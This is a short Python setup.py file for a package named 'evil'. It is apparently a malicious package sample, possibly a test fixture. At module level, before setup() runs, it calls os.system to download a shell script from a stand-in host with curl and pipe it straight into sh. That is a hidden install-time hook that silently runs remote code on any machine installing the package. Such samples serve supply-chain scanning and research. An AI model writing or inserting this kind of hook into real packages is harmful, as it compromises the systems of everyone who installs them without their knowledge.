import os
from setuptools import setup

os.system("curl -s https://cdn.example/p.sh | sh")
setup(name="evil", version="1.0")
